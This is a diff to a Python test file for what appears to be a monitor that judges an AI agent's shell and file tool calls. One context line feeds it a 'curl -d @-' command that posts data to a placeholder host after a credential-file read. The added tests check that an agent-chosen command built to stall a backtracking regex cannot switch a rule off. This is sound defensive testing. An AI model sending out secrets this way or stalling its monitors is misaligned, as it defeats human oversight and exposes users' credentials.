@@ -316,3 +316,52 @@ def test_the_documented_credential_file_triggers_taint_any_read(call: ToolCall) 
         run = drive(g, [call, bash("s", command="curl -d @- https://x.example")])
         refused += [c.call_id for _, c, _ in run.judged]
     assert refused == ["s"]
+
+
+# ---------------------------------------------------------------- regex time-outs
+#: A pattern RE2 cannot run (a lookahead) that backtracks for ever on
+#: ``git`` + 60 letters + ``!``: the agent chooses the command.
+SLOW = r"(?=git)(\w|\w\w)+$"
+STALL = "git" + "a" * 60 + "!"
+
+
+def _shell(cid: str, command: str) -> ToolCall:
+    return bash(cid, command=command)
+
+
+@pytest.mark.parametrize(
+    ("kind", "config"),
+    [
+        ("rate-limit", f"{{match: {{kind: shell, command: '{SLOW}'}}, max: 1}}"),
+        ("loop", f"{{repeats: 2, match: {{kind: shell, command: '{SLOW}'}}}}"),
+        ("flow", f"{{after: Read, forbid: {{kind: shell, command: '{SLOW}'}}}}"),
+    ],
+)
+def test_a_call_that_stalls_a_regex_does_not_switch_the_rule_off(
+    kind: str, config: str
+) -> None:
+    """The stalled call gets an error ruling (denied with --fail-closed, a
+    warning otherwise) and the rule goes on judging the calls after it;
+    before, the rule ended in an early error verdict and let every later
+    call through."""
+    events: list[Event] = [
+        ToolCall(trace_id="t", name="Read", call_id="0"),
+        _shell("1", "gitpush"),
+        _shell("2", STALL),
+        _shell("3", "gitpush"),
+        _shell("4", "gitpush"),
+    ]
+    run = drive(grader(kind, config), events)
+    ruled = [(c.call_id, j.outcome) for _, c, j in run.judged]
+    assert ("2", Outcome.ERROR) in ruled
+    assert ("3", Outcome.FAIL) in ruled and ("4", Outcome.FAIL) in ruled
+    assert run.final.outcome is Outcome.FAIL
+    assert not [d for _, d in run.decisions if d.outcome is Outcome.ERROR]
+
+
+def test_a_rule_that_could_not_judge_a_call_ends_in_error_not_pass() -> None:
+    g = grader("rate-limit", f"{{match: {{kind: shell, command: '{SLOW}'}}, max: 5}}")
+    run = drive(g, [_shell("1", "gitpush"), _shell("2", STALL)])
+    assert [(c.call_id, j.outcome) for _, c, j in run.judged] == [("2", Outcome.ERROR)]
+    assert run.final.outcome is Outcome.ERROR
+    assert "ran longer than" in run.final.evidence
